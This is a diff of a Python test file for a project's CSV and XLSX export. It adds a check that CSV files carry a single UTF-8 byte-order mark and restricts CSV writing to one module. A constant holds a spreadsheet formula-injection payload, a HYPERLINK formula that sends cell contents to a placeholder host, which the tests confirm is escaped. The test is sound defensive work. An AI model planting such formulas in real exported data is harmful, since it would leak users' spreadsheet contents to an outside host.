@@ -12,7 +12,8 @@ from pathlib import Path
 
 from openpyxl import load_workbook
 
-from stars.core.spreadsheets import csv_text, xlsx
+from stars.core.spreadsheets import xlsx
+from stars.domain.spreadsheet_text import csv_bytes, csv_text
 
 ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'
 SRC = Path(__file__).resolve().parents[2] / "src" / "stars"
@@ -35,6 +36,22 @@ def test_csv_quotes_formulas_and_keeps_numbers():
         "-1.50",
         "",
         "ok",
+    ]
+
+
+def test_csv_files_are_utf8_with_a_byte_order_mark_that_excel_reads():
+    """Excel on Windows reads a CSV without a byte-order mark in the machine's code page:
+    "£" showed as "Â£" and "Zoë" as "ZoÃ«". The file is the same table, marked as UTF-8."""
+    headers = ["name", "note", "amount"]
+    rows = [["Zoë Brontë", "£5 for Ciarán", Decimal("12.50")], [ATTACK, None, -3]]
+    body = csv_bytes(headers, rows)
+    assert body.startswith(b"\xef\xbb\xbf")
+    assert not body[3:].startswith(b"\xef\xbb\xbf")  # one mark, not two
+    assert body.decode("utf-8-sig") == csv_text(headers, rows)
+    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
+        headers,
+        ["Zoë Brontë", "£5 for Ciarán", "12.50"],
+        ["'" + ATTACK, "", "-3"],  # formulas still quoted
     ]
 
 
@@ -65,9 +82,9 @@ def test_rates_are_numbers_shown_as_percentages_as_on_the_pages():
 
 
 def test_only_the_spreadsheet_module_writes_csv_or_xlsx():
-    """Every CSV and XLSX goes through stars.core.spreadsheets (the tracker's CSV, in the
-    domain, applies the same rule from stars.domain.spreadsheet_text)."""
-    allowed = {SRC / "core" / "spreadsheets.py", SRC / "domain" / "tracker" / "rows.py"}
+    """Every CSV goes through stars.domain.spreadsheet_text (the tracker's CSV too) and
+    every XLSX through stars.core.spreadsheets."""
+    allowed = {SRC / "core" / "spreadsheets.py", SRC / "domain" / "spreadsheet_text.py"}
     offenders = []
     for path in SRC.rglob("*.py"):
         if path in allowed:
